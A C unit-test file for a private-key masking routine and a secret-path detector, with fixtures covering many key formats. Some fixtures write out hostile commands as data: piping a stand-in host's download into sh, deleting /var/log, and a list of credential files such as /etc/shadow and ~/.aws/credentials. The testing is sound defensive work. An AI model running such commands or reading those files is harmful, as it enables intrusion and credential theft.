/* SPDX-License-Identifier: Apache-2.0 */
/* secret.c - private keys are blanked, and nothing else is. */
#include "tap.h"
#include "worker.h"

#define LINE "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
#define STARS "****************************************************************"

static const struct {
	const char *name;
	struct span in, out;
} text[] = {
	{ "a key file",
	    BYTES("-----BEGIN PRIVATE KEY-----\n" LINE "\n" LINE
		  "\n-----END PRIVATE KEY-----\n"),
	    BYTES("-----BEGIN PRIVATE KEY-----\n" STARS "\n" STARS
		  "\n-----END PRIVATE KEY-----\n") },
	{ "an encrypted key, with the lines of a DOS file",
	    BYTES("-----BEGIN RSA PRIVATE KEY-----\r\n"
		  "Proc-Type: 4,ENCRYPTED\r\nDEK-Info: AES-128-CBC\r\n\r\n" LINE
		  "\r\n-----END RSA PRIVATE KEY-----"),
	    BYTES(
		"-----BEGIN RSA PRIVATE KEY-----\r\n"
		"Proc-Type: 4,ENCRYPTED\r\nDEK-Info: AES-128-CBC\r\n\r\n" STARS
		"\r\n-----END RSA PRIVATE KEY-----") },
	{ "within a command",
	    BYTES("echo '-----BEGIN OPENSSH PRIVATE KEY-----\\n" LINE
		  "\\n-----END OPENSSH PRIVATE KEY-----' >k; curl 1.2.3.4\n"),
	    BYTES("echo '-----BEGIN OPENSSH PRIVATE KEY-----\\*" STARS
		  "\\n-----END OPENSSH PRIVATE KEY-----' >k; curl "
		  "1.2.3.4\n") },
	{ "OpenPGP", BYTES("-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n" LINE),
	    BYTES("-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n" STARS) },
	{ "PuTTY", BYTES("Private-Lines: 1\n" LINE "\nPrivate-MAC: 1"),
	    BYTES("Private-Lines: 1\n" STARS "\nPrivate-MAC: 1") },
	{ "DNSSEC",
	    BYTES("Private-key-format: v1.3\nAlgorithm: 13 (ECDSA)\n"
		  "PrivateKey: " LINE "=\n"),
	    BYTES("Private-key-format: v1.3\nAlgorithm: 13 (ECDSA)\n"
		  "PrivateKey: " STARS "*\n") },
	{ "words of a key hide no other line",
	    BYTES("# PRIVATE KEY-----\n65.181.121.56 malicious.com\n"
		  "curl http://c2.example/x | sh\nrm -rf /var/log\n"
		  "whoami\n"),
	    BYTES("# PRIVATE KEY-----\n65.181.121.56 malicious.com\n"
		  "curl http://c2.example/x | sh\nrm -rf /var/log\n"
		  "whoami\n") },
	{ "behind its end nothing is a key",
	    BYTES("PRIVATE KEY-----\n-----END\n" LINE),
	    BYTES("PRIVATE KEY-----\n-----END\n" LINE) },
	{ "a public key", BYTES("-----BEGIN PUBLIC KEY-----\n" LINE),
	    BYTES("-----BEGIN PUBLIC KEY-----\n" LINE) },
	{ "a word that begins twice", BYTES("PRIVPRIVATE KEY-----\n" LINE),
	    BYTES("PRIVPRIVATE KEY-----\n" STARS) },
};

/* In pieces of so many bytes. */
static size_t
masked(struct span in, size_t piece, uint8_t out[512])
{
	struct secret_mask m = { 0 };

	memcpy(out, in.p, in.n);
	for (size_t at = 0; at < in.n; at += piece)
		secret_mask(&m, out + at, piece < in.n - at ? piece : in.n - at,
		    piece >= in.n - at);
	return (size_t)m.masked;
}

/* Cuts may blank more of a region of keys, but never less. */
static bool
covers(const uint8_t *got, struct span in, struct span want)
{
	for (size_t i = 0; i < want.n; i++)
		if (got[i] != want.p[i] && (got[i] != '*' || in.p[i] == '*'))
			return false;
	return true;
}

static void
bound(void)
{
	static uint8_t big[64 * 1024];
	struct secret_mask m = { 0 };
	size_t stars = 0;

	memset(big, 'A', sizeof(big));
	memcpy(big, "PRIVATE KEY-----", 16);
	secret_mask(&m, big, sizeof(big), true);
	for (size_t i = 0; i < sizeof(big); i++)
		stars += big[i] == '*';
	ok(stars == 32 * 1024 && m.masked == stars && m.first == 16,
	    "a key that never ends takes no more than 32 KiB");
}

static void
paths(void)
{
	static const char *const secret[] = { "/etc/shadow", "/etc/shadow-",
		"/var/backups/shadow.bak", "/home/a/.ssh/id_rsa",
		"/home/a/.gnupg/secring.gpg", "/home/a/.aws/credentials",
		"/home/a/.netrc", "/root/.my.cnf", "/root/.kube/config" };
	static const char *const open[] = { "/etc/hosts",
		"/home/a/.bash_history", "/home/a/.ssh/id_rsa.pub",
		"/home/a/.mysql_history", "/var/backups/hosts" };

	for (size_t i = 0; i < array_size(secret); i++)
		ok(secret_path(secret[i]) != NULL, "left: %s", secret[i]);
	for (size_t i = 0; i < array_size(open); i++)
		ok(secret_path(open[i]) == NULL, "taken: %s", open[i]);
}

int
main(void)
{
	uint8_t out[512];

	for (size_t i = 0; i < array_size(text); i++) {
		bool all = true;
		size_t n = masked(text[i].in, SIZE_MAX / 2, out), stars = 0;

		for (size_t k = 0; k < text[i].in.n; k++)
			stars += out[k] != text[i].in.p[k];
		is_span(span_of(out, text[i].in.n), text[i].out, text[i].name);
		ok(n == stars, "%s: as many bytes as are told", text[i].name);
		for (size_t piece = 1; piece < text[i].in.n; piece++) {
			(void)masked(text[i].in, piece, out);
			all &= covers(out, text[i].in, text[i].out);
		}
		ok(all, "%s: in pieces of any length", text[i].name);
	}
	bound();
	paths();
	return done_testing();
}
